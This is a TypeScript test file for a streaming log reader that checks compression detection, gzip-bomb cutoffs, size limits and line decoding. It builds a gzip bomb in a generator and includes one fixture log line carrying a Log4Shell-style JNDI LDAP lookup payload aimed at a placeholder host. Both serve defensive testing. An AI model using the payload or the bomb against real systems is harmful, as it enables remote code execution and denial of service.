import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { gzipSync } from 'node:zlib';
import { MAX_COMPRESSION_RATIO, RATIO_CHECK_AFTER_BYTES, TEXT_PIECE_BYTES, readLines } from '../../lambdas/adapters/log-stream.js';
import { timeAt } from '../support/records.js';

function collector() {
  const lines: string[] = [];
  const cut: { prefix: string; reason: string | undefined }[] = [];
  return { lines, cut, sink: { line: (l: string) => lines.push(l), overlong: (prefix: string, reason?: string) => cut.push({ prefix, reason }) } };
}

const logLines = (n: number) =>
  Array.from({ length: n }, (_, i) => `203.0.113.${i % 250} - - [${timeAt(i)}] "GET /products/${i}?ref=mail HTTP/1.1" 200 ${1000 + i} "-" "Mozilla/5.0"`);

async function* chunks(buffer: Buffer, size: number): AsyncGenerator<Uint8Array> {
  for (let i = 0; i < buffer.length; i += size) yield buffer.subarray(i, i + size);
}

/**
 * A gzip bomb that is never held in memory: one member inflating 16 MiB of blank lines (about
 * 16 KB compressed), repeated. Concatenated members are one valid gzip file.
 */
async function* gzipBomb(inflatedBytes: number): AsyncGenerator<Uint8Array> {
  const memberSize = 16 * 1024 ** 2;
  const member = gzipSync(Buffer.alloc(memberSize, '\n'), { level: 9 });
  for (let sent = 0; sent < inflatedBytes; sent += memberSize) yield member;
}

describe('reading an object into lines', () => {
  it('names a compression other than gzip and how to unpack it, and reads no line of it', async () => {
    // Magic bytes followed by what compressed data looks like: bytes of every value.
    const body = (magic: number[]) => Buffer.from([...magic, ...Array.from({ length: 4000 }, (_, i) => (i * 131 + 7) % 256)]);
    const cases: [number[], RegExp][] = [
      [[0x42, 0x5a, 0x68, 0x39], /bzip2-compressed, and only gzip is read: unpack it first \(bzcat FILE/],
      [[0xfd, 0x37, 0x7a, 0x58, 0x5a, 0x00], /xz-compressed.*\(xzcat FILE/],
      [[0x28, 0xb5, 0x2f, 0xfd], /zstd-compressed.*\(zstdcat FILE/],
      [[0x50, 0x4b, 0x03, 0x04], /zip-compressed.*\(unzip -p FILE/],
      [[0x89, 0x50, 0x4e, 0x47], /binary \(an image, archive or executable\?\)/],
    ];
    for (const [magic, reason] of cases) {
      const c = collector();
      const outcome = await readLines(chunks(body(magic), 1024), c.sink);
      assert.match(outcome.notLog ?? '', reason);
      assert.equal(c.lines.length, 0);
    }
  });

  it('a gzip bomb (20 GiB of blank lines from 20 MB) is cut off at the compression-ratio bound with its reason', { timeout: 60_000 }, async () => {
    let lines = 0;
    const cut: { prefix: string; reason: string | undefined }[] = [];
    const sink = { line: () => lines++, overlong: (prefix: string, reason?: string) => cut.push({ prefix, reason }) };
    const outcome = await readLines(gzipBomb(20 * 1024 ** 3), sink);
    assert.equal(outcome.cutOff, 'compression-ratio-limit');
    assert.deepEqual(
      cut.map((c) => c.reason),
      ['compression-ratio-limit'],
    );
    assert.match(cut[0]?.prefix ?? '', new RegExp(`more than ${MAX_COMPRESSION_RATIO} times its compressed size`));
    assert.ok(outcome.bytesOut < RATIO_CHECK_AFTER_BYTES + 1024 ** 2, `stopped as soon as the ratio is judged (${outcome.bytesOut} bytes)`);
    assert.ok(outcome.bytesIn < 1024 ** 2, `only a few hundred KB of the object were fetched (${outcome.bytesIn})`);
    assert.ok(lines <= outcome.bytesOut, 'no more lines than the bytes read');
  });

  it('a log that starts with thousands of identical long requests (800:1) is read to the end while its lines are requests', async () => {
    // A client controls most of a line: the same 8 KB request sent 2,600 times is 21 MB that
    // deflate packs 800:1, past the bomb ratio before the real traffic that follows it.
    const flood = `203.0.113.9 - - [${timeAt(0)}] "GET /${'A'.repeat(8000)} HTTP/1.1" 404 5 "-" "curl/8"`;
    const tail = `198.51.100.7 - - [${timeAt(9)}] "GET /?x=\${jndi:ldap://192.0.2.1/a} HTTP/1.1" 404 5 "-" "curl/8"`;
    const gz = gzipSync(Buffer.from(`${[...Array.from({ length: 2600 }, () => flood), ...logLines(1000), tail].join('\n')}\n`));
    for (const usable of [true, false]) {
      const { lines, cut, sink } = collector();
      const outcome = await readLines(chunks(gz, 64 * 1024), { ...sink, usable: () => usable });
      if (usable) {
        assert.equal(outcome.cutOff, undefined);
        assert.equal(lines.length, 3601);
        assert.equal(lines.at(-1), tail);
      } else {
        // A sink that says its lines are not requests (a bomb of blank lines) is cut as before.
        assert.equal(outcome.cutOff, 'compression-ratio-limit');
        assert.deepEqual(
          cut.map((c) => c.reason),
          ['compression-ratio-limit'],
        );
      }
    }
  });

  it('stops at the decompressed-size bound even when the ratio looks like a log', async () => {
    const gz = gzipSync(Buffer.from(`${logLines(20_000).join('\n')}\n`));
    const { lines, cut, sink } = collector();
    const outcome = await readLines(chunks(gz, 64 * 1024), sink, { maxDecompressedBytes: 512 * 1024 });
    assert.equal(outcome.cutOff, 'decompressed-size-limit');
    assert.deepEqual(
      cut.map((c) => c.reason),
      ['decompressed-size-limit'],
    );
    assert.ok(lines.length > 1000 && lines.length < 20_000, `the lines before the bound are kept (${lines.length})`);
    assert.equal(lines.at(-1), logLines(lines.length).at(-1), 'no partial line is delivered at the cut');
  });

  it('chunks larger than a text piece are decoded piece by piece: lines and multi-byte characters across the pieces come out whole', async () => {
    // Lines with two- and four-byte characters, so piece boundaries fall inside characters and lines.
    const lines = Array.from({ length: 3_000 }, (_, i) => `${'é'.repeat(i % 7)}line ${i} ${'😀'.repeat(i % 5)} Яндекс ${'x'.repeat(i % 300)}`);
    const body = Buffer.from(`${lines.join('\n')}\n`, 'utf8');
    assert.ok(body.length > 4 * TEXT_PIECE_BYTES);
    for (const size of [TEXT_PIECE_BYTES + 1, 3 * TEXT_PIECE_BYTES - 7, body.length]) {
      const c = collector();
      await readLines(chunks(body, size), c.sink);
      assert.deepEqual(c.lines, lines, `chunks of ${size} bytes`);
    }
  });

  it('reads a large ordinary gzip log to the end', async () => {
    const text = logLines(20_000);
    const { lines, cut, sink } = collector();
    const outcome = await readLines(chunks(gzipSync(Buffer.from(text.join('\n'))), 4096), sink);
    assert.equal(outcome.cutOff, undefined);
    assert.deepEqual(cut, []);
    assert.equal(lines.length, 20_000);
  });

  it('a gzip body that is one line with no newline is counted once as too long and read to the end', async () => {
    const gz = gzipSync(Buffer.alloc(8 * 1024 ** 2, 'A'));
    const { lines, cut, sink } = collector();
    const outcome = await readLines(chunks(gz, 16 * 1024), sink);
    assert.deepEqual(lines, []);
    assert.deepEqual(
      cut.map((c) => c.reason),
      [undefined],
      'the sink counts it as line-too-long',
    );
    assert.equal(outcome.bytesOut, 8 * 1024 ** 2);
  });

  it('CR-only line endings give one line per request, in plain and in gzip input', async () => {
    const text = logLines(100).join('\r');
    for (const body of [Buffer.from(text), gzipSync(Buffer.from(text))]) {
      const { lines, sink } = collector();
      await readLines(chunks(body, 333), sink);
      assert.equal(lines.length, 100);
      assert.deepEqual(lines, logLines(100));
    }
  });

  for (const compressed of [true, false]) {
    it(`a network error half-way through a ${compressed ? 'gzip' : 'plain'} body rejects the read (no unhandled stream error)`, async () => {
      const text = Buffer.from(logLines(5000).join('\n'));
      const stored = compressed ? gzipSync(text) : text;
      const reset = Object.assign(new Error('read ECONNRESET'), { code: 'ECONNRESET' });
      let released = false;
      async function* failing(): AsyncGenerator<Uint8Array> {
        try {
          yield* chunks(stored.subarray(0, Math.floor(stored.length / 2)), 8192);
          throw reset;
        } finally {
          released = true;
        }
      }
      const { sink } = collector();
      await assert.rejects(readLines(failing(), sink), (e: unknown) => e === reset);
      assert.ok(released, 'the body was released');
    });
  }

  it('a body that stops after the first chunk of a tiny object is read as what it is', async () => {
    const { lines, sink } = collector();
    await readLines(chunks(Buffer.from('x'), 1), sink);
    assert.deepEqual(lines, ['x']);
  });
});
